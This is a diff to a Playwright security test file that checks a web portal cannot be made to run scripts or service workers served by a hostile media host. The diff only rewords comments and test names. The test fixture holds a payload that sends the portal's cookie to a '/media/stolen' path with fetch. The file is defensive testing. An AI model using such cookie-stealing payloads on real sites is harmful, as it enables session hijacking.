@@ -5,11 +5,11 @@ import { startAppServer } from './support/app-server.ts';
 import { test as base, expect } from './support/test.ts';
 
 /**
- * Files of a media host, and answers of an API, that want to be the portal: to read its cookie, to
- * run on its pages, and to become its worker.
+ * A media host and an API whose files attack the portal: they try to read its cookie, to run on its
+ * pages and to become its worker.
  */
 
-/** What each of them does where it may run: as a page, and as a script or a worker of another. */
+/** The attack of each file, if it runs as a page, a script or a worker. */
 const SCRIPT = `
   self.attacked = true;
   fetch('/media/stolen?' + self.document?.cookie);
@@ -51,7 +51,7 @@ async function startHost(asked: string[]) {
 }
 
 const test = base.extend<{ host: HostileHost }>({
-  // biome-ignore lint/correctness/noEmptyPattern: Playwright reads the fixture's needs from it
+  // biome-ignore lint/correctness/noEmptyPattern: Playwright requires a destructured first parameter
   host: async ({}, use) => {
     const asked: string[] = [];
     const { server, origin } = await startHost(asked);
@@ -73,11 +73,11 @@ test.use({
   allowedErrors: [/Content Security Policy|MIME type|sandboxed|TrustedScriptURL|TrustedScript/],
 });
 
-/** Opens the portal as a member has it: with a session's cookie, and its own worker in place. */
+/** As a member has it: with a session's cookie and an active worker. */
 async function openPortal(page: Page): Promise<void> {
   await page.goto('/login');
   await page.evaluate(async () => {
-    // biome-ignore lint/suspicious/noDocumentCookie: the cookie that is to be stolen
+    // biome-ignore lint/suspicious/noDocumentCookie: the attack tries to steal this cookie
     document.cookie = 'hash=SECRET; Path=/';
     await navigator.serviceWorker.ready;
   });
@@ -92,26 +92,26 @@ const workersOf = (page: Page) =>
     });
   });
 
-/** Goes to an address that may be shown, or saved as a file: then the page stays where it was. */
+/** The browser may save the file instead of showing it; then the page stays. */
 const visit = (page: Page, path: string) =>
   page.goto(path).catch((error: Error) => {
     expect(error.message).toMatch(/Download is starting|ERR_ABORTED/);
   });
 
 for (const path of Object.keys(files).filter((file) => !file.endsWith('.js'))) {
-  test(`opens ${path} without running anything of it`, async ({ page, context, host }) => {
+  test(`opens ${path} without running any script of it`, async ({ page, context, host }) => {
     await openPortal(page);
     const other = await context.newPage();
     await visit(other, path);
     expect(host.asked.filter((url) => url === path)).not.toEqual([]);
-    // What such a page asks for comes through the same server, and before this question.
+    // Requests of that page would reach the host before this one.
     await page.evaluate(() => fetch('/media/asked-last'));
     expect(host.asked.filter((url) => url.includes('stolen'))).toEqual([]);
     expect(await workersOf(page)).toEqual(['/sw.js']);
   });
 }
 
-test('takes no script and no worker from what is forwarded', async ({ page }) => {
+test('refuses to run any forwarded response as a script or a worker', async ({ page }) => {
   await openPortal(page);
   const outcomes = await page.evaluate(async () => {
     const tell = (run: () => unknown) =>
@@ -145,7 +145,7 @@ test('takes no script and no worker from what is forwarded', async ({ page }) =>
   expect(await workersOf(page)).toEqual(['/sw.js']);
 });
 
-test('refuses them by their place already, whatever their type', async ({ page }) => {
+test('blocks forwarded scripts by their address alone, for any content type', async ({ page }) => {
   await openPortal(page);
   const blocked = await page.evaluate(
     () =>
@@ -160,7 +160,7 @@ test('refuses them by their place already, whatever their type', async ({ page }
   expect(blocked).toEqual(['script-src-elem', '/media/x.js']);
 });
 
-test('draws a picture all the same', async ({ page }) => {
+test('still shows a forwarded picture', async ({ page }) => {
   await openPortal(page);
   const width = await page.evaluate(async () => {
     const image = new Image();
